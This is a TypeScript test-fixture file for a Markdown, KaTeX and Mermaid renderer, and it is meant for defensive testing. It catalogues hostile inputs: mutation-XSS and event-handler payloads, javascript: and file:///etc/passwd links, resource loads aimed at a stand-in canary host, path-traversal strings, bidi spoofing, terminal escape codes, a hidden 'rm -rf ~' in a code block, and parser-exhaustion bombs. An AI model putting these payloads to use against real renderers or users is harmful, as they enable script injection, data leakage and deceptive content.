// Model text that tries to load, run, deceive or break something. Addresses lead to a canary that must stay silent.

export const canary = 'https://canary.example'

export const hostile: Record<string, string> = {
  'image, inline': `![secret](${canary}/a?q=secret)`,
  'image, by reference': `![a][b]\n\n[b]: ${canary}/a`,
  'image, in angle brackets': `![a](<${canary}/a b>)`,
  'image with a title': `![a](${canary}/a "t")`,
  'image in a link': `[![a](${canary}/a)](${canary}/b)`,
  'image as data': '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'image without a scheme': '![a](//canary.example/a)',
  'image tag': `<img src="${canary}/a" onerror="flag=1">`,
  'image tag, half': `<img src="${canary}/a`,
  'picture and source': `<picture><source srcset="${canary}/a"><img srcset="${canary}/b 2x"></picture>`,
  media: `<video poster="${canary}/a" src="${canary}/b" autoplay></video><audio src="${canary}/c"></audio>`,
  background: `<table background="${canary}/a"><tr><td background="${canary}/b">x</td></tr></table>`,
  script: '<script>flag=1</script>',
  'script by address': `<script src="${canary}/a.js"></script>`,
  handlers: '<p onclick="flag=1" onmouseover=flag=1 style="x">x</p><details open ontoggle=flag=1>x</details>',
  'mutating noscript': '<noscript><p title="</noscript><img src=x onerror=flag=1>"></noscript>',
  'mutating math':
    '<math><mtext><table><mglyph><style><img src=x onerror=flag=1></style></mglyph></table></mtext></math>',
  'mutating form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=flag=1>',
  'mutating svg': '<svg></p><style><a id="</style><img src=1 onerror=flag=1>">',
  template: '<template><script>flag=1</script></template><xmp><img src=x onerror=flag=1></xmp>',
  'end of script': '</script><script>flag=1</script>',
  style: `<style>@import url(${canary}/a.css); body { background: url(${canary}/b) }</style>`,
  'style attribute': `<p style="background:url(${canary}/a)">x</p>`,
  svg: `<svg><image href="${canary}/a"/><use href="${canary}/b#x"/></svg><svg onload=flag=1>`,
  mathml: `<math href="${canary}/a"><mi xlink:href="javascript:flag=1">x</mi></math>`,
  mermaid: `\`\`\`mermaid\ngraph TD; A["<img src=${canary}/a onerror=flag=1>"] --> B; click A href "javascript:flag=1"\n\`\`\``,
  katex: `$$\\href{javascript:flag=1}{x} \\includegraphics{${canary}/a} \\htmlStyle{background:url(${canary}/b)}{x}$$`,
  'formula bombs':
    '$\\def\\a{\\a\\a}\\a$ $$\\rule{9999em}{9999em}$$ $\\def\\b#1{#1#1}\\b{\\b{\\b{\\b{\\b{\\b{\\b{x}}}}}}}$ \\(\\def\\c{\\d\\d}\\def\\d{\\c\\c}\\c\\)',
  'formula that loads': `$\\includegraphics{${canary}/a.png}$ $\\href{${canary}/b}{x}$ \\(\\url{javascript:flag=1}\\)`,
  'formula that styles': `$\\htmlStyle{background:url(${canary}/a)}{x}$ $\\htmlClass{link}{x}$ $\\htmlId{root}{x}$ $\\htmlData{a=b}{x}$`,
  'formula with a colour': `$\\color{url(${canary}/a)}x$ $\\textcolor{#fff;background:url(${canary}/b)}{x}$ $\\fcolorbox{red}{url(x)}{y}$`,
  'formula with HTML':
    '$<img src=x onerror=flag=1>$ $$\n</span><script>flag=1</script>\n$$ $\\text{<b onclick=flag=1>x</b>}$',
  'formula with direction': '$a\u202eb\u2066$ $\\text{x\u200by}$ $\\char"202E$',
  'formula, half': '$$\n\\frac{1}{\n- item\n# head',
  'paths that lead out':
    '../../etc/passwd.txt `../a.ts` `%2e%2e/a.ts` [x](../a.ts) [x](%2e%2e/a.ts) [x](%252e%252e/a.ts) [x](a/..%5c..%5cb.ts) ~/a.ts',
  'paths of the network':
    '\\\\server\\share\\a.ts `\\\\server\\share\\a.ts` //server/share/a.ts [x](%5c%5cserver%5ca.ts) [x](\\\\server/a.ts)',
  'paths that hide':
    'a\u202est.exe `src/a\u200b.ts` [x](src/a%E2%80%AE.ts) [x](a%00.ts) `foo\u202eBar` `fooB\u0430r\u2066()`',
  'paths of windows': '`con.ts` `a.ts:stream` `PROGRA~1/a.ts` `a.ts.` [x](C:a.ts) [x](\\\\?\\C:\\a.ts)',
  'path with a quote':
    '[x](<a"onclick=flag=1 .ts>) [x](<src/"><img src=x onerror=flag=1>.ts>) `"><b onclick=flag=1>.ts`',
  frame: `<iframe src="${canary}/a" srcdoc="<script>flag=1</script>"></iframe><object data="${canary}/b"></object>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${canary}/a"><base href="${canary}/">`,
  links: `<link rel="stylesheet" href="${canary}/a"><link rel="dns-prefetch" href="//canary.example">`,
  ping: `<a href="#" ping="${canary}/a">x</a>`,
  form: `<form action="${canary}/a"><input name="attributes"><button formaction="${canary}/b">x</button></form>`,
  clobbering: '<a id="root" name="body">x</a><form id="document"><input name="cookie"></form>',
  'language of a fence': '```"><img src=x onerror=flag=1>\ncode\n```',
  'language as class': '```js" class="k-evil" onload="flag=1\ncode\n```',
  'link to script': '[x](javascript:flag=1) [x](JaVaScRiPt:flag=1) [x](java&#10;script:flag=1) <javascript:flag=1>',
  'link to the editor': '[x](command:workbench.action.quit) [x](vscode://kourier.kourier/x) [x](vscode-insiders:x)',
  'link to files': '[x](file:///etc/passwd) [x](\\\\server\\share) [x](//server/share) <file:///etc/passwd>',
  'link to data': '[x](data:text/html,<script>flag=1</script>) [x](blob:https://x/y) [x](about:blank)',
  'link with a quote': `[x](${canary}/"onmouseover="flag=1) [x](<${canary}/" onclick=flag=1>)`,
  'title with a quote': `[x](${canary}/a '"><img src=x onerror=flag=1>')`,
  'terminal codes':
    'a\u001b[31mred\u001b[0m\u001b]8;;https://canary.example\u0007link\u001b]8;;\u0007\u001b]52;c;ZXZpbA==\u0007',
  'direction and width':
    'admin\u202e\u2066// nobody\u2069\u2066 zero\u200bwidth\ufeff soft\u00adhyphen \u{e0041}\u{e0042}\u{e0043}\u{e0044}',
  'direction by entity': 'admin&#x202e;txt.exe &#8203; &zwnj;x&ZeroWidthSpace;',
  'control in code': '```sh\necho safe\r\u0008\u0008rm -rf ~\u001b[8m\n```',
  'control in a link': `[x](${canary}/\u202eexe) [\u202etxt](${canary}/a)`,
}

/** Text that is slow or deep for a parser. */
export const heavy: Record<string, string> = {
  'nested quotes': `${'>'.repeat(4_000)} deep`,
  'nested quotes, line by line': Array.from({ length: 300 }, (_, depth) => `${'> '.repeat(depth)}x`).join('\n'),
  'nested lists': Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  'nested lists in a line': '- '.repeat(3_000),
  'nested brackets': `${'['.repeat(20_000)}x${']('.repeat(20_000)}`,
  'nested emphasis': `${'*a **b '.repeat(10_000)}`,
  stars: '*'.repeat(50_000),
  backticks: Array.from({ length: 400 }, (_, count) => '`'.repeat(count)).join(' '),
  entities: '&#x'.repeat(30_000),
  'angle brackets': '<'.repeat(50_000),
  links: '<https://'.repeat(10_000),
  'one long line': 'word '.repeat(60_000),
  dollars: '$a'.repeat(50_000),
  'dollars and spaces': '$ a $b '.repeat(20_000),
  'open formulas': '\\(x '.repeat(20_000),
  'open blocks': '$$\n\n'.repeat(5_000),
  'deep formula': `$$\n${'{'.repeat(1_900)}x${'}'.repeat(1_900)}\n$$`,
  'deep fractions': `$${'\\frac1{'.repeat(200)}x${'}'.repeat(200)}$`,
  'many formulas': '$x^2$ '.repeat(3_000),
  'wide table': `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n${'|x\n'.repeat(100)}`,
}

/** Sources of diagrams that try to load, run, lead away or take all the time. */
export const hostileDiagrams: Record<string, string> = {
  'click that leads away': `graph TD\n  A --> B\n  click A href "javascript:flag=1" _self\n  click B href "${canary}/a"`,
  'click that calls': 'graph TD\n  A --> B\n  click A call flag()\n  click B callback "x"',
  'HTML in labels': `graph TD\n  A["<img src=${canary}/a onerror=flag=1>"] --> B["<b style='background:url(${canary}/b)'>x</b><script>flag=1</script>"]`,
  'configuration in the source': `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "themeCSS": "@import url(${canary}/a.css); .node { background: url(${canary}/b) }", "fontFamily": "x; } * { background: url(${canary}/c) } .y {"}}%%\ngraph TD\n  A["<img src=${canary}/d>"]`,
  'configuration before the source': `---\nconfig:\n  securityLevel: loose\n  themeCSS: '* { background: url(${canary}/a) }'\n---\ngraph TD\n  A --> B`,
  'styles that load': `graph TD\n  A --> B\n  style A fill:url(${canary}/a),background-image:url('${canary}/b'),filter:url(${canary}/c)\n  classDef x fill:u\\72l(${canary}/d),stroke:image-set('${canary}/e' 1x)\n  class B x\n  linkStyle 0 stroke:url(${canary}/f)`,
  'icons and images': `graph TD\n  A@{ icon: "fa:user", form: "square", label: "x" }\n  B@{ img: "${canary}/a.png", label: "y", w: 60, h: 60 }\n  C[fa:fa-car car] --> A`,
  'links in a sequence': `sequenceDiagram\n  participant A\n  link A: x @ ${canary}/a\n  links A: {"y": "javascript:flag=1"}\n  A->>A: <img src=${canary}/b onerror=flag=1>`,
  'links in classes': `classDiagram\n  class A\n  link A "${canary}/a" "x"\n  click A href "javascript:flag=1"\n  callback A "flag"`,
  'names that break out':
    'graph TD\n  A["</text></svg><svg onload=flag=1><script>flag=1</script>"] --> B["]]> <!-- \'" & #lt;script#gt;flag=1#lt;/script#gt;"]',
  'accessible title': `graph TD\n  accTitle: </title><script>flag=1</script>\n  accDescr: <img src=${canary}/a>\n  A --> B`,
  'direction and control': 'graph TD\n  A["a\u202eb\u0000c\u001b[31m"] --> B["\u{e0041}\u200b"]',
  'formula in a label': `graph TD\n  A["$$\\href{javascript:flag=1}{x}\\includegraphics{${canary}/a}$$"]`,
}

/** Sources of diagrams that are too much, faulty or nothing. */
export const failingDiagrams: Record<string, string> = {
  empty: '',
  faulty: 'graph TD\n  A --> [',
  'of no kind': 'hello world',
  'too long': `graph TD\n${'  A --> B\n'.repeat(5_000)}`,
  'too many edges': `graph TD\n${Array.from({ length: 900 }, (_, at) => `A${at} --> A${at + 1}`).join('\n')}`,
}
